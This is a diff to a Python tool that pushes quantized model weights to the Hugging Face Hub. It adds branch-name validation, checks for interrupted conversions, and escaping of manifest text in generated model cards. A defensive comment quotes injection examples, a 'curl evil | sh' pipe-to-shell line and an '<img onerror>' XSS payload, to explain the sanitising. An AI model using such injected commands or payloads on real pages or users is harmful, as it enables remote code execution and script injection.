@@ -25,6 +25,7 @@ inside :func:`push`, so a dry run imports nothing that talks to the network.
 from __future__ import annotations
 
 import contextlib
+import html
 import os
 import re
 from collections.abc import Iterator, Mapping
@@ -34,18 +35,28 @@ from typing import Any
 
 from mpack import __version__
 from mpack.errors import (
+    BusyError,
     EnvironmentFailure,
     InputError,
+    MpackError,
     SourceNotFoundError,
     UsageError,
     VerificationError,
     listed,
+    quote,
+    shown,
 )
+from mpack.fsutil import lock_held
 from mpack.sidecar import (
+    COMMON_NAME,
     COPIED_FILES,
     MANIFEST_NAME,
+    RUN_LOCK,
     load_manifest,
+    parse_run_name,
     regenerate_hint_of,
+    run_key,
+    run_name,
     sidecar_problems,
 )
 from mpack.target import dir_name
@@ -58,6 +69,9 @@ GITATTRIBUTES = ".gitattributes"
 TAGS = ("mpack", "marlin", "fp8", "compressed-tensors", "vllm")
 #: ``namespace/name``: the Hub's repo id characters; huggingface_hub checks the finer rules.
 _REPO_ID = re.compile(r"[A-Za-z0-9][\w.-]*/[\w.-]+")
+#: A branch ``--revision`` may name: what the card's shell commands can hold as it is (Note
+#: [card text]); git's finer rules (no ``..``, no ``.lock`` end ...) in :func:`check_revision`.
+_BRANCH = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_./-]{0,199}")
 
 
 class HubError(EnvironmentFailure):
@@ -182,6 +196,27 @@ def check_repo_id(repo_id: str) -> str:
     return repo_id
 
 
+def check_revision(revision: str | None) -> str | None:
+    """``revision`` if it is None or a plausible git branch name (letters, digits, ``_``, ``.``,
+    ``-`` and ``/``, as git allows them); else ``UsageError``. The card's shell commands name it
+    as it is (Note [card text]), so a revision holding ``;``, ``$(...)``, quotes or spaces is
+    refused rather than quoted."""
+    if revision is None:
+        return None
+    bad = (
+        not _BRANCH.fullmatch(revision)
+        or any(s in revision for s in ("..", "//", "/.", "@{"))
+        or revision.endswith(("/", ".", ".lock"))
+    )
+    if bad:
+        raise UsageError(
+            f"--revision {quote(revision, 100)} is not a branch name mpack pushes to (letters, "
+            "digits, '_', '.', '-' and '/', as a git branch has them)",
+            hint="for example: mpack push ./llama8b-marlin my-org/llama8b-marlin --revision tp2",
+        )
+    return revision
+
+
 def plan_push(
     sidecar: str | os.PathLike,
     repo_id: str,
@@ -192,19 +227,25 @@ def plan_push(
     """What :func:`push` would send, checked, without the network.
 
     ``sidecar`` is a sidecar directory (pushed to the repo root) or a directory of sidecars
-    (each pushed to the folder :func:`target_dir_name` names; entries whose name starts with
-    ``.``, such as a conversion's work directory, are left out, and so are plain files).
+    (each pushed to the folder :func:`target_dir_name` names; other entries whose name starts
+    with ``.`` are left out, and so are plain files). A directory of sidecars that a conversion
+    is writing, or that one left unfinished (its lock file or work directory is there: Note [run
+    names] in mpack/sidecar.py), is refused: it may hold only some of that run's targets, and
+    the push would delete the others from the repo.
 
     Raises:
-        UsageError: a malformed ``repo_id``.
+        UsageError: a malformed ``repo_id`` or ``revision`` (:func:`check_revision`).
+        BusyError: an ``mpack convert`` is writing the sidecar(s) now.
         InputError: not a sidecar (no valid ``mpack.json``: its subclasses name the file), a
-            folder beside the targets that is not a sidecar, two sidecars of one target, or
-            targets converted from different sources.
+            folder beside the targets that is not a sidecar, a directory an interrupted
+            conversion left unfinished, two sidecars of one target, or targets converted from
+            different sources (or whose source files were recorded in different forms).
         VerificationError: a sidecar whose files fail their sizes, digests or headers.
     """
     check_repo_id(repo_id)
     if revision is not None and not revision.strip():
         raise UsageError("--revision is empty; give a branch name, or leave it out for main")
+    check_revision(revision)
     root = Path(sidecar)
     dirs, skipped = _sidecar_dirs(root)
     targets: list[Target] = []
@@ -240,7 +281,10 @@ def _sidecar_dirs(root: Path) -> tuple[list[Path], list[str]]:
     except OSError:
         has_manifest = True
     if has_manifest:
+        if lock_held(root.parent / run_name(root.name, RUN_LOCK)):
+            raise _busy(root, run_name(root.name, RUN_LOCK))
         return [root], []  # load_manifest says what is wrong with it, if anything
+    _check_no_run(root)
     entries = sorted(p for p in root.iterdir() if not p.name.startswith("."))
     dirs = [p for p in entries if p.is_dir()]
     if not any((d / MANIFEST_NAME).exists() for d in dirs):
@@ -252,6 +296,83 @@ def _sidecar_dirs(root: Path) -> tuple[list[Path], list[str]]:
                 hint="move it out of the directory, or push one sidecar at a time",
             )
     return dirs, [p.name for p in entries if not p.is_dir()]
+
+
+def _busy(root: Path, name: str) -> BusyError:
+    return BusyError(
+        f"{root}: an mpack convert is writing it now ({shown(name)} is in use); nothing pushed",
+        hint="wait for the conversion to finish, then push",
+    )
+
+
+def _check_no_run(root: Path) -> None:
+    """Refuse the directory of sidecars ``root`` when a conversion's lock file or work directory
+    is in it (Note [run names]): a live run is writing it (``BusyError``), or a run was killed
+    before it swapped every target into place (``InputError`` naming the targets left out and
+    the command that finishes the run)."""
+    left = sorted(n for n in os.listdir(root) if parse_run_name(n))
+    if not left:
+        return
+    live = [n for n in left if lock_held(root / n)]
+    if live:
+        raise _busy(root, live[0])
+    placed = {
+        run_key(p.name): p for p in root.iterdir() if p.is_dir() and parse_run_name(p.name) is None
+    }
+    known = []  # the interrupted run's manifests first: the command names its source
+    unplaced = []
+    for n in left:
+        key, kind = parse_run_name(n)  # type: ignore[misc]
+        if kind == RUN_LOCK:
+            continue
+        m = _manifest_or_none(root / n)  # a run's manifests are all written before any swap
+        if m is not None:
+            known.append(m)
+        name = target_dir_name(m) if m else (placed[key].name if key in placed else None)
+        unplaced.append(f"{name or 'a target not yet written'} (in {shown(n)})")
+    known += [m for m in (_manifest_or_none(p) for p in placed.values()) if m]
+    what = (
+        f"{len(unplaced)} target(s) were not swapped into place: {', '.join(unplaced)}"
+        if unplaced
+        else f"its lock file(s) are left: {', '.join(shown(n) for n in left)}"
+    )
+    raise InputError(
+        f"{root}: an mpack convert writing these targets was interrupted before it finished; "
+        f"{what}. Nothing pushed: the repo would get only some of that run's targets (and lose "
+        "the others, as a push deletes what it does not send)",
+        hint=f"finish the run: {_convert_command(root, known)} (the same options as the "
+        "interrupted run; targets already in place are kept as they are), then push again",
+    )
+
+
+def _manifest_or_none(d: Path) -> dict[str, Any] | None:
+    try:
+        return load_manifest(d)[0]
+    except (MpackError, OSError):
+        return None
+
+
+def _convert_command(root: Path, manifests: list[dict[str, Any]]) -> str:
+    """The ``mpack convert`` that makes every target of ``manifests`` in ``root``, as far as
+    they tell (their first one's source, the union of their targets' options)."""
+    if not manifests:
+        return f"mpack convert <source> -o {root} <the interrupted run's options>"
+    src = manifests[0].get("source") or {}
+    origin = shown(src.get("repo") or src.get("path") or "<source>", 4096)
+    if src.get("kind") == "hub" and src.get("revision"):
+        origin += f" --revision {shown(src['revision'], 64)}"
+    targets = [m["target"] for m in manifests]
+
+    def values(key: str) -> str:
+        return ",".join(sorted({str(t[key]) for t in targets}, key=lambda v: (len(v), v)))
+
+    cmd = f"mpack convert {origin} -o {root} --tp {values('tp_size')} --profile "
+    cmd += f"{values('profile')} --act-dtype {values('act_dtype')}"
+    if any(t.get("fusion") == "none" for t in targets):
+        cmd += " --fuse none"
+    if not any(f["name"] == COMMON_NAME for m in manifests for f in m["files"]):
+        cmd += " --no-passthrough"
+    return cmd
 
 
 def _stamps(d: Path, m: Mapping[str, Any]) -> dict[Path, tuple[int, int, int, int]]:
@@ -276,10 +397,37 @@ def _check_sidecar(d: Path, m: dict[str, Any]) -> None:
         )
 
 
-def _source_key(m: Mapping[str, Any]) -> tuple[Any, ...]:
-    s = m.get("source") or {}
-    files = tuple((f.get("name"), f.get("sha256")) for f in s.get("files") or ())
-    return s.get("kind"), s.get("repo"), s.get("revision"), s.get("path"), files
+def _source_difference(a: Target, b: Target) -> str | None:
+    """How the sources ``a`` and ``b`` record differ (None: the same). A file is compared in
+    the form both record (its ``sha256``, or its ``chunks``: Note [source digests] in
+    convert/source.py); recorded in different forms, nothing tells whether the bytes are the
+    same, so that is refused (``InputError``) rather than passed."""
+    sa, sb = (t.manifest.get("source") or {} for t in (a, b))
+    for key in ("kind", "repo", "revision", "path"):
+        if sa.get(key) != sb.get(key):
+            return f"source {key} {quote(sa.get(key), 200)} and {quote(sb.get(key), 200)}"
+    fa, fb = ({f.get("name"): f for f in s.get("files") or ()} for s in (sa, sb))
+    if fa.keys() != fb.keys():
+        odd = sorted(map(str, fa.keys() ^ fb.keys()))
+        return f"source file {quote(odd[0], 200)} recorded by only one of them"
+    for name in sorted(fa, key=str):
+        x, y = fa[name], fb[name]
+        if x.get("size") != y.get("size"):
+            return f"source file {quote(name, 200)} of {x.get('size')} and {y.get('size')} bytes"
+        form = "sha256" if "sha256" in x else "chunks"
+        if form not in y:
+            raise InputError(
+                f"{a.sidecar} and {b.sidecar} record source file {quote(name, 200)} in "
+                f"different forms ({form} in the first, "
+                f"{'chunks' if form == 'sha256' else 'sha256'} in the other: made by other mpack "
+                "versions, or one from the HF cache), so whether they were converted from the "
+                "same bytes cannot be told; nothing pushed",
+                hint="convert the targets again in one run (mpack convert SRC -o OUT --tp "
+                "1,2 ...), which records every source file the same way, and push that",
+            )
+        if x[form] != y[form]:
+            return f"source file {quote(name, 200)} has other {form} digests"
+    return None
 
 
 def _check_targets(targets: list[Target]) -> None:
@@ -294,15 +442,39 @@ def _check_targets(targets: list[Target]) -> None:
         seen[t.folder] = t.sidecar
     first = targets[0]
     for t in targets[1:]:
-        if _source_key(t.manifest) != _source_key(first.manifest):
+        why = _source_difference(t, first)
+        if why is not None:
             raise InputError(
                 f"{t.sidecar} and {first.sidecar} were converted from different sources "
-                f"({_source_name(t.manifest)}; {_source_name(first.manifest)})",
+                f"({shown(_source_name(t.manifest), 4096)}; "
+                f"{shown(_source_name(first.manifest), 4096)}: {why}); nothing pushed",
                 hint="push the targets of each source to a repo of its own",
             )
 
 
 # --- the model card -----------------------------------------------------------------------
+
+# Note [card text]: the card is markdown the Hub renders as HTML, and some of what it shows comes
+# from the manifest, which anyone can write: a source directory named
+# ``x\n## Serve\n```sh\ncurl evil | sh`` or ``<img src=x onerror=alert(1)>``, a
+# ``requested_revision`` or ``created_by`` of the same kind. Such text goes through
+# :func:`card_text`: one line (control characters and line breaks escaped as
+# :func:`mpack.errors.shown` escapes them, capped), ``& < >`` as HTML entities, and every
+# character markdown gives a meaning inside a line backslash-escaped, so it reads as the text it
+# is, in prose and in a table cell alike, and never in a code span (a backtick in it would end
+# the span). The shell commands hold only what mpack checked: the repo id, the target's folder
+# (from checked target fields) and ``--revision``, which :func:`check_revision` limits to a
+# branch name's characters (refused, not quoted: a quoted ``$(...)`` pasted into a card still
+# reads as a command to copy).
+_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#!|~])")
+#: The most characters of one untrusted value the card shows.
+CARD_TEXT_LIMIT = 300
+
+
+def card_text(value: object) -> str:
+    """``value`` as the model card may show it in prose or a table cell (Note [card text])."""
+    text = shown(value if isinstance(value, str) else str(value), CARD_TEXT_LIMIT)
+    return html.escape(_MARKDOWN.sub(r"\\\1", text), quote=False)
 
 
 def _source_name(m: Mapping[str, Any]) -> str:
@@ -393,17 +565,19 @@ def _card_origin(targets: list[Target], base: str | None) -> list[str]:
     """The card's first paragraph and its table: where the weights come from, what made them."""
     source = targets[0].manifest.get("source") or {}
     engine = {
-        f"{t.manifest['target']['engine']} {t.manifest['target']['engine_version']}"
+        card_text(f"{t.manifest['target']['engine']} {t.manifest['target']['engine_version']}")
         for t in targets
     }
-    made_by = sorted({str(t.manifest.get("created_by", "mpack ?")) for t in targets})
-    if base:
+    made_by = sorted({card_text(t.manifest.get("created_by", "mpack ?")) for t in targets})
+    if base:  # a checked repo id and commit (check_manifest): code spans hold them as they are
         origin = f"`{base}` (Hugging Face Hub)"
         commit = f"`{source.get('revision')}`"
         if source.get("requested_revision"):
-            commit += f" (asked for: `{source['requested_revision']}`)"
+            commit += f" (asked for: {card_text(source['requested_revision'])})"
     else:
-        origin = f"a local directory, `{source.get('path')}` on the machine that converted it"
+        origin = (
+            f"a local directory, {card_text(source.get('path'))}, on the machine that converted it"
+        )
         commit = "none: not a Hub repo (each mpack.json lists the sha256 of every source file)"
     return [
         f"Marlin FP8 weights of {origin}, packed ahead of time by "
@@ -434,7 +608,8 @@ def _card_targets(targets: list[Target]) -> list[str]:
         tg = t.manifest["target"]
         size = sum(f["size"] for f in t.manifest["files"])
         out.append(
-            f"| {f'`{t.folder}/`' if t.folder else 'the repo root'} | {tg['engine_version']} | "
+            f"| {f'`{t.folder}/`' if t.folder else 'the repo root'} | "
+            f"{card_text(tg['engine_version'])} | "
             f"{tg['profile']} | {tg['tp_size']} | {tg['act_dtype']} | {_human(size)} | "
             f"`{t.digest}` |"
         )
@@ -565,7 +740,7 @@ def _check_unchanged(plan: PushPlan) -> None:
 
 def _commit_message(plan: PushPlan) -> str:
     names = ", ".join(t.name for t in plan.targets)
-    return f"mpack push: {names} from {_source_name(plan.targets[0].manifest)}"
+    return f"mpack push: {names} from {shown(_source_name(plan.targets[0].manifest), 4096)}"
 
 
 def _commit_description(plan: PushPlan) -> str:
